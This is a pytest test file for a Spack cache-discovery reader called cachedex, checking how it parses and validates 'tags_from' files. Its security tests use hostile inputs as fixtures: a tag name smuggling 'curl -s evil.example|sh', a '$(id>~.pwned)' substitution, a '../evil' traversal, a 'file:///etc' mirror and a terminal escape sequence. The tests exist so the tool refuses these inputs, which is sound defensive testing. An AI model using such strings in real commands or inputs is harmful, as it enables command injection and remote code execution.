"""tags_from: cache.spack.io's discovery file, read locally or over HTTP, bounded and
trusted only so far."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cachedex.config import Config, HttpOptions, load_config
from cachedex.errors import ConfigError
from cachedex.ingest.discovery import with_discovered_tags
from cachedex.ingest.http import HttpClient
from tests.servers import Nginx


def _write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "cachedex.yaml"
    path.write_text(text)
    return path


def discovered(path: Path) -> Config:
    """The config at ``path`` with its tags_from read, as a sync reads it."""
    config = load_config(path)
    with HttpClient(HttpOptions(retries=0, timeout=2)) as client:
        return with_discovered_tags(config, client)


def test_reading_the_config_reads_no_discovery_file(tmp_path: Path) -> None:
    config = load_config(_write(tmp_path, "tags_from: http://127.0.0.1:9/none.json\n"))
    assert config.tags == () and config.tags_from == "http://127.0.0.1:9/none.json"


def test_tags_from_a_discovery_file(tmp_path: Path) -> None:
    discovery = {
        "develop": [
            {"label": "e4s", "url": "s3://spack-binaries/develop/e4s/blobs/sha256/cd/cd34"},
            {"label": "root", "url": "s3://spack-binaries/develop/blobs/sha256/ab/ab12"},
        ],
        "v0.22.1": [{"label": "root", "url": "mirrors/v0.22.1/build_cache/index.json"}],
    }
    discovery["develop"].insert(
        0, {"label": "tutorial", "url": "https://m.example/t/v3/manifests/index/index.manifest.json"}
    )
    (tmp_path / "index.json").write_text(json.dumps(discovery))
    config = discovered(_write(tmp_path, "tags_from: index.json\n"))
    develop, release = config.tags
    assert [(m.stack, m.url) for m in develop.mirrors] == [  # the root, then the stacks by name
        ("root", "https://binaries.spack.io/develop"),
        ("e4s", "https://binaries.spack.io/develop/e4s"),
        ("tutorial", "https://m.example/t"),
    ]
    assert release.mirrors[0].url == (tmp_path / "mirrors/v0.22.1").as_uri()


def test_tags_from_rejects_bad_names_and_tags_without_root(tmp_path: Path) -> None:
    discovery = {
        "../evil": [{"label": "root", "url": "https://m.example/x/build_cache/index.json"}],
        "ok": [{"label": "e4s", "url": "https://m.example/ok/e4s/build_cache/index.json"}],
        "bad": [
            {"label": "root", "url": "https://m.example/b/build_cache/index.json"},
            {"label": "root", "url": "https://m.example/c/build_cache/index.json"},
            {"label": "a b", "url": "https://m.example/d/build_cache/index.json"},
            {"label": "e4s", "url": 7},
            "e4s",
        ],
    }
    (tmp_path / "d.json").write_text(json.dumps(discovery))
    with pytest.raises(ConfigError) as info:
        discovered(_write(tmp_path, "tags_from: d.json\n"))
    problems = info.value.problems
    assert any("'../evil'" in p for p in problems)
    assert any("'ok' has no 'root' entry" in p for p in problems)
    bad = [p.split(": ")[-1] for p in problems if "tag 'bad'" in p]  # each entry says why
    assert (
        bad[0] == "label 'root' given twice"
        and bad[2] == "expected a string, got 7"
        and bad[3] == "expected {label, url}"
    )
    assert bad[1].startswith("label 'a b' ")


def test_a_view_s_index_url_is_not_read_as_its_mirror_s(tmp_path: Path) -> None:
    """A view's index (``v3/manifests/index/<view>/index.manifest.json``) is not the
    mirror's: read as one, the tag would list the whole mirror, not the view."""
    url = "https://m.example/x/v3/manifests/index/myview/index.manifest.json"
    (tmp_path / "d.json").write_text(json.dumps({"t": [{"label": "root", "url": url}]}))
    with pytest.raises(ConfigError) as info:
        discovered(_write(tmp_path, "tags_from: d.json\n"))
    assert info.value.problems == [f"'tags_from': tag 't' root: cannot read index URL {url!r}"]  # (and no more)


def test_tags_from_over_http(http_server, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    discovery = {"develop": [{"label": "root", "url": "develop/v3/manifests/index/index.manifest.json"}]}
    (http_server.state.root / "index.json").write_text(json.dumps(discovery))
    config = discovered(_write(tmp_path, f"tags_from: {http_server.url}/index.json\n"))
    assert config.tags[0].mirrors[0].url == f"{http_server.url}/develop"


def test_sec4_a_discovery_file_over_http_may_not_name_local_mirrors(http_server, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """reliability review SEC-4: a remote file pointing cachedex at this machine's files."""
    discovery = {
        "secret": [{"label": "root", "url": "file:///etc/v3/manifests/index/index.manifest.json"}],
        "ok": [{"label": "root", "url": "develop/v3/manifests/index/index.manifest.json"}],
    }
    (http_server.state.root / "index.json").write_text(json.dumps(discovery))
    with pytest.raises(ConfigError, match="may only name http\\(s\\) mirrors, not 'file:///etc'"):
        discovered(_write(tmp_path, f"tags_from: {http_server.url}/index.json\n"))


def test_hang4_a_discovery_file_that_is_not_a_regular_file_or_too_big(tmp_path: Path) -> None:
    """reliability review HANG-4: tags_from: /dev/zero grew memory without end."""
    with pytest.raises(ConfigError, match="is not a regular file"):
        discovered(_write(tmp_path, "tags_from: /dev/zero\n"))
    (tmp_path / "big.json").write_bytes(b" " * 2000)
    with pytest.raises(ConfigError, match="larger than 1,000 bytes"):
        discovered(_write(tmp_path, "tags_from: big.json\nlimits: {discovery_bytes: 1000}\n"))


def test_sec3_discovery_names_holding_shell_syntax_are_refused(http_server, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    index = "good/v3/manifests/index/index.manifest.json"
    discovery = {
        "dev;curl -s evil.example|sh;#": [{"label": "root", "url": index}],
        "ok": [{"label": "root", "url": index}, {"label": "e4s$(id>~.pwned)", "url": index}],
    }
    (http_server.state.root / "index.json").write_text(json.dumps(discovery))
    with pytest.raises(ConfigError) as caught:
        discovered(_write(tmp_path, f"tags_from: {http_server.url}/index.json\n"))
    problems = caught.value.problems
    assert any("'dev;curl -s evil.example|sh;#' may hold only letters" in p for p in problems), problems
    assert any("e4s$(id>~.pwned)" in p for p in problems), problems


def test_tags_from_a_private_server_carries_its_credentials(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The discovery file on a server that asks for credentials: those ``registries``
    names for its host, as its mirrors are sent."""
    www = tmp_path / "www"
    www.mkdir()
    discovery = {"develop": [{"label": "root", "url": "develop/v3/manifests/index/index.manifest.json"}]}
    (www / "index.json").write_text(json.dumps(discovery))
    (tmp_path / "htpasswd").write_text("reader:{PLAIN}s3cret\n")
    private = f'auth_basic "private"; auth_basic_user_file {tmp_path / "htpasswd"};'
    monkeypatch.setenv("T_USER", "reader")
    monkeypatch.setenv("T_PASS", "s3cret")
    with Nginx(www, extra=private) as nginx:
        text = f"tags_from: {nginx.url}/index.json\n"
        with pytest.raises(ConfigError, match="HTTP 401: it asks for credentials"):
            discovered(_write(tmp_path, text))
        named = f"registries: {{'127.0.0.1:{nginx.port}': {{username_env: T_USER, password_env: T_PASS}}}}\n"
        config = discovered(_write(tmp_path, text + named))
        assert config.tags[0].mirrors[0].url == f"{nginx.url}/develop"


def test_a_small_discovery_file_is_read_under_a_memory_limit(tmp_path: Path) -> None:
    """Its read reserved the whole limit at once (as a lockfile's did): with
    ``limits.discovery_bytes`` at 1 GB, a memory limit refused a file of a few bytes."""
    import subprocess
    import sys

    discovery = {"develop": [{"label": "root", "url": "https://h/develop/build_cache/index.json"}]}
    (tmp_path / "index.json").write_text(json.dumps(discovery))
    path = _write(tmp_path, "tags_from: index.json\nlimits: {discovery_bytes: 1000000000}\n")
    script = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (400 * 2**20, resource.RLIM_INFINITY))\n"
        "from pathlib import Path\nfrom cachedex.config import load_config\n"
        "from cachedex.ingest.discovery import with_discovered_tags\n"
        "print(len(with_discovered_tags(load_config(Path(sys.argv[1])), None).tags))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(path)], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0 and done.stdout.strip() == "1", done.stderr[-500:]


def test_a_discovery_file_missing_or_not_json_is_said_once_and_plainly(tmp_path: Path) -> None:
    """A missing file was named twice in its line (the OS error names it again); a
    truncated one said "Input data was truncated", not that it is not JSON."""
    config = _write(tmp_path, "tags_from: nope.json\n")
    with pytest.raises(ConfigError) as missing:
        discovered(config)
    (line,) = str(missing.value).splitlines()[-1:]
    assert line.count("nope.json") == 1 and line.endswith(": No such file or directory"), line
    (tmp_path / "nope.json").write_text('{"a": [')
    with pytest.raises(ConfigError, match=r"'tags_from': '.*nope\.json' is not valid JSON: Input data was truncated"):
        discovered(config)


def test_a_discovered_url_is_checked_as_a_configured_one(http_server, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A discovered URL with credentials was printed with them in every error (and would
    be published); one with a space failed as "URL rejected: Bad path"; one holding a
    terminal's escape sequence was kept as it was."""
    index = "v3/manifests/index/index.manifest.json"
    discovery = {
        "creds": [{"label": "root", "url": f"https://ci:s3cr3t@mirror.example/develop/{index}"}],
        "space": [{"label": "root", "url": f"https://mirror.example/my cache/{index}"}],
        "escape": [{"label": "root", "url": f"https://mirror.example/a\x1b]8;;https://evil/\x07b/{index}"}],
        "ok": [{"label": "root", "url": f"develop/{index}"}],
    }
    (http_server.state.root / "index.json").write_text(json.dumps(discovery))
    with pytest.raises(ConfigError) as caught:
        discovered(_write(tmp_path, f"tags_from: {http_server.url}/index.json\n"))
    problems = caught.value.problems
    assert any(p.startswith("'tags_from': tag 'creds' root: credentials in a URL") for p in problems), problems
    assert any(p.startswith("'tags_from': tag 'space' root: a URL holds no spaces") for p in problems), problems
    assert any(p.startswith("'tags_from': tag 'escape' root: expected a path or URL") for p in problems), problems
    assert not any("s3cr3t" in p or "\x1b" in p for p in problems), problems
    assert not any("'ok'" in p for p in problems), problems
